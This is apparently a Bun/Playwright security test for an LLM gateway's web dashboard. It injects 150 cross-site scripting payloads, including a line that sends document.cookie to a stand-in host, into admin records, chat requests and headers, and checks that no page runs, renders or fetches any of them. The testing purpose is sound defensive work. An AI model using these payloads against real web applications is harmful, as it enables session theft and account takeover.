import { afterAll, beforeAll, expect, setDefaultTimeout, test } from "bun:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { build } from "../../dashboard/build.ts";
import { ask, made, TOKEN } from "../../test/access/keys.ts";
import { tell } from "../../test/support/figures.ts";
import { jsonOf, type RunningGateway, startGateway } from "../../test/support/gateway.ts";
import { linked } from "../../test/support/signed-in.ts";
import { openBrowser, PAGE_PATHS, TAB_PATHS } from "./browser.ts";

// A browser, on machines that are busy.
setDefaultTimeout(240_000);

/** What clients and operators say stands on the pages as they said it: nothing of it is ever run, drawn as something else, or fetched. */

/** What a payload does, where it is run. */
const DEEDS = [
  "window.hit=1",
  "parent.hit=1",
  "top['hit']=1",
  "globalThis.hit=1",
  "fetch('http://elsewhere.invalid/'+document.cookie)",
] as const;
/** Where it would be run, were it not text. */
const WAYS: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `'"><img src=x onerror=${deed}>`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script href="data:text/javascript,${deed}"/></svg>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">x</details>`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `javascript:${deed}//`,
  (deed) => ` JaVaScRiPt:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `<form action="javascript:${deed}"><button>x</button></form>`,
  (deed) => `<base href="http://elsewhere.invalid/"><script>${deed}</script>`,
  (deed) => `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  (deed) => `<link rel=stylesheet href="http://elsewhere.invalid/a.css"><i onclick="${deed}">`,
  (deed) => `<style>@import "http://elsewhere.invalid/";</style><b onmouseover="${deed}">x</b>`,
  (deed) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${deed}">`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `<!--><img src=x onerror="${deed}">-->`,
  (deed) => `<x onpointerenter="${deed}" style="position:fixed;inset:0">`,
  (deed) => `[x](javascript:${deed}) ![x](http://elsewhere.invalid/a.png) &lt;script&gt;${deed}&lt;/script&gt;`,
];
const PAYLOADS = DEEDS.flatMap((deed) => WAYS.map((way) => way(deed)));

let folder: string;
let gateway: RunningGateway;
let browser: Browser;
let page: Page;
const ids: string[] = [];
/** What the browser asked of anybody but the gateway. */
const strange: string[] = [];

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "headgate-payloads-"));
  await build(join(folder, "built"));
  gateway = await startGateway({ dashboard: join(folder, "built"), config: { admin_token: TOKEN } });
  const [keeping, plain] = [await made(gateway, { keep_bodies: true }), await made(gateway)];
  const make = (path: string, body: object) => ask(gateway, "POST", path, body);
  for (const [n, text] of PAYLOADS.entries()) {
    // A name is at most as long as it is; each place has its share of them all.
    const short = text.slice(0, 100);
    const made = await Promise.all([
      make("/admin/keys", { name: short, owner: short, metadata: { note: text }, tags: { allowed: [short] } }),
      make("/admin/teams", { name: short, metadata: { note: text } }),
      make("/admin/budgets", { scope: ["user", "tag"][n % 2], scope_id: short, limit_usd: 1 }),
      make("/admin/virtual-models", { id: `vmc/p${n}`, model: "openai/gpt-5", name: short, description: text }),
      make("/admin/routing-rules", {
        id: `p${n}`,
        type: "deny",
        model: "openai/gpt-4.1",
        reason: text,
        description: text,
      }),
      make("/admin/sign-in-links", { name: short }),
    ]);
    expect([text, made.map(({ status }) => status).filter((status) => status >= 300 && status !== 400)]).toEqual([
      text,
      [],
    ]);
    const content = n % 3 === 0 ? `[sim status=400 message=${JSON.stringify(text.replaceAll('"', "'"))}]` : text;
    const body = {
      model: "openai/gpt-5",
      messages: [{ role: "user", content }],
      user: text,
      tags: [short],
      max_tokens: 9,
    };
    // What no field may hold is not sent in one.
    const field = encodeURI(text)
      .replaceAll("%20", " ")
      .replaceAll("%22", '"')
      .replaceAll("%3C", "<")
      .replaceAll("%3E", ">");
    const headers = {
      authorization: `Bearer ${(n % 2 ? keeping : plain).key}`,
      "x-title": field,
      "http-referer": field,
      "user-agent": field,
      "x-stainless-lang": field,
    };
    const { id, generationId } = await jsonOf(await gateway.post("/v1/chat/completions", body, headers));
    ids.push(id ?? generationId);
  }
  browser = await openBrowser();
  page = await browser.newPage();
  page.on("request", (request) => {
    const url = request.url();
    if (!url.startsWith(gateway.url) && !url.startsWith("data:image/")) strange.push(url);
  });
  page.on("dialog", (dialog) => {
    strange.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.goto(`${gateway.url}/#sign-in=${await linked(gateway)}`);
  await page.getByRole("navigation").first().waitFor();
});
afterAll(async () => {
  await browser?.close();
  await gateway?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** What is not of the dashboard's own making, as the browser understood the page. */
const FOREIGN = `(() => {
  const own = new Set([...document.scripts].filter((one) => new URL(one.src || "x:").pathname.startsWith("/assets/")));
  const found = [...document.querySelectorAll("script, iframe, object, embed, base, meta[http-equiv], video, math, form[action], details[ontoggle]")]
    .filter((one) => !own.has(one)).map((one) => one.outerHTML.slice(0, 200));
  for (const one of document.querySelectorAll("*"))
    for (const { name, value } of one.attributes) {
      if (/^on/i.test(name)) found.push(one.outerHTML.slice(0, 200));
      if (/^(href|src|action|formaction|xlink:href)$/i.test(name) && !/^(\\/|#|https?:|data:image\\/)/i.test(value)) found.push(name + "=" + value);
    }
  return { hit: "hit" in window, found, text: document.body.textContent.length };
})()`;

async function looked(path: string): Promise<void> {
  await page.goto(gateway.url + path);
  await page.getByRole("heading", { level: 1 }).first().waitFor();
  const busy = page.locator('[aria-busy="true"]');
  while ((await busy.count()) > 0) await busy.first().waitFor({ state: "detached" });
  const { hit, found, text } = (await page.evaluate(FOREIGN)) as { hit: boolean; found: string[]; text: number };
  expect([path, hit, found]).toEqual([path, false, []]);
  expect(text).toBeGreaterThan(50);
}

test(`${PAYLOADS.length} payloads, wherever somebody can say anything: none is run, drawn or fetched`, async () => {
  expect(PAYLOADS).toHaveLength(150);
  for (const path of PAGE_PATHS.filter((path) => !path.includes("$"))) await looked(path);
  for (const path of TAB_PATHS) await looked(path);
  // What was done, in full: the log has all that was told.
  const { data } = await jsonOf(await ask(gateway, "GET", "/admin/audit?limit=50"));
  for (const { id } of data.slice(0, 20)) {
    await looked(`/settings?tab=audit&entry=${id}`);
    await page.getByRole("dialog").waitFor();
  }
  let [shown, kept] = [0, 0];
  for (const [n, id] of ids.entries()) {
    if (n % 15 > 1) continue;
    await looked(`/requests/${id}`);
    if ((await page.locator("body").textContent())!.includes(PAYLOADS[n]!)) shown++;
    // What is kept of it, header fields included.
    const show = page.getByRole("button", { name: "Show the request and its answer" });
    if ((await show.count()) === 0) continue;
    await show.click();
    await page.getByRole("region", { name: "Header fields: Asked" }).getByText("x-stainless-lang").waitFor();
    expect(await page.evaluate(FOREIGN)).toMatchObject({ hit: false, found: [] });
    kept++;
  }
  // It does stand there, as text.
  expect([shown > 10, kept > 5]).toEqual([true, true]);
  // In the address as well.
  for (const text of PAYLOADS.slice(0, WAYS.length)) {
    const said = encodeURIComponent(text);
    await looked(`/requests?user=${said}&tag=${said}&model=${said}`);
    await looked(`/models/${said}`);
  }
  expect(strange).toEqual([]);
  // Were one drawn after all, this test would see it, and the policy would run nothing of it.
  await page.evaluate(`document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(WAYS[3]!(DEEDS[0]))})`);
  const drawn = (await page.evaluate(FOREIGN)) as { hit: boolean; found: string[] };
  expect([drawn.hit, drawn.found.length > 0]).toEqual([false, true]);
  tell({ row: "H15", what: "payloads that were run", value: 0, atMost: 0 });
});
